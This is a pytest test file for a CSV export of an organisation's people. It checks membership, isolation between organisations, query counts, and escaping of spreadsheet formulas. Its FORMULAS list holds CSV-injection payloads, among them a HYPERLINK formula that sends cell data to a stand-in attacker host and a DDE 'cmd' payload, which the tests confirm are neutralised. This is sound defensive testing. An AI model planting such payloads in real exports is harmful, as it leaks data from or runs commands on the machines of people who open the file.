"""The people as CSV: who is in it, and that no spreadsheet runs anything in it."""

import csv
import io

import pytest

from teams import joining
from teams.exporting import plain_cell, safe_cell
from teams.models import Organisation, Person, Role
from teams.people_csv import export_people
from tests import world

FORMULAS = [
    "=1+1",
    "+1+1",
    "-A1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
]
HARMLESS = [
    "Ana",
    "O'Brien",
    "'t Hooft",
    "a=b",
    "ana@acme.example",
    "",
    "'",
    "Ána Łoś",
    "1",
    "-500",
    "+62",
    "-1.5",
]


def rows(organisation: Organisation) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(export_people(organisation)))))


def test_active_people_with_primary_team_and_role(acme, north, ana, ben):
    joining.join(ben, team=acme.root, role=Role.MANAGER)
    joining.deactivate(world.person(north, "Gone"))
    world.person(None, "Teamless", organisation=acme)

    assert rows(acme) == [
        ["name", "email", "crm_id", "team", "role"],
        ["Ana", "ana@acme.example", "", "north", "manager"],
        ["Ben", "ben@acme.example", "", "north", "rep"],
        ["Teamless", "teamless@acme.example", "", "", ""],
    ]


def test_nobody_of_another_organisation(acme, ana, stranger):
    assert "Stranger" not in str(rows(acme))


@pytest.mark.parametrize("text", FORMULAS[:-1])
def test_a_formula_is_text(acme, text):
    Person.objects.create(organisation=acme, name=text, external_id=text)

    name, _email, crm_id, _team, _role = rows(acme)[1]

    assert name == crm_id == f"'{text}"


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
def test_a_cell_is_read_as_it_was_written(text):
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert safe_cell(text) == text


def test_a_separator_or_quote_begins_no_cell(acme):
    Person.objects.create(organisation=acme, name='x",=1+1', external_id="a\r\n=1+1")

    assert rows(acme)[1][:3] == ['x",=1+1', "", "a\r\n=1+1"]


def test_in_a_constant_number_of_queries(acme, north, django_assert_num_queries):
    for number in range(12):
        world.person(north, f"Rep {number}")

    with django_assert_num_queries(2):
        assert len(rows(acme)) == 13
